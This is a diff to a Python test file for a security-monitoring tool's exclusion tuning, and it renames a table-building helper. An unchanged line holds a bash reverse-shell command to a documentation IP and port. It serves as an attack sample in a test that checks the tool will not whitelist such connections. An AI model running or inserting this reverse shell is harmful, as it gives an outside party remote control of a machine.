@@ -12,7 +12,7 @@ import re2
 from tetratui.core.events.kinds import KIND_OF_KEY, Kind
 from tetratui.core.exclusion import Exclusion, Pattern, SocketMatch
 from tetratui.core.noise.commands import Commands
-from tetratui.core.table import EventTable, table_of
+from tetratui.core.table import EventTable, build_table
 from tetratui.core.tuning.safety.attack_samples import example, in_context, recorded
 from tetratui.core.tuning.scopes.scopes import TuningContext
 
@@ -98,7 +98,7 @@ REVERSE = '-c "bash -i >& /dev/tcp/198.51.100.66/4445 0>&1"'
 
 def test_the_connection_of_an_attack_sample_is_protected_like_its_exec(lines: Any) -> None:
     connect = lines.connect("198.51.100.66", 4445, binary="/usr/bin/bash", arguments=REVERSE)
-    context = TuningContext(table_of([connect]))
+    context = TuningContext(build_table([connect]))
     for name in ("exact", "command", "template", "caller", "destination", "network", "policy"):
         exclusions = context.built(name, np.arange(1))
         refused = context.shield.refuses(exclusions)
@@ -109,7 +109,7 @@ def test_the_connection_of_an_attack_sample_is_protected_like_its_exec(lines: An
 
 def test_connections_elsewhere_of_everyday_commands_may_go(lines: Any) -> None:
     health = lines.connect("10.1.2.3", 8080, binary="/usr/bin/curl", arguments="-s http://10.1.2.3:8080/health")
-    context = TuningContext(table_of([health]))
+    context = TuningContext(build_table([health]))
     assert context.scopes_of([0]).default == "destination"
     pattern = (Pattern.exactly("/usr/bin/curl"),)
     inside = Exclusion((Kind.KPROBE,), pattern, socket=SocketMatch(("10.0.0.0/8",)))
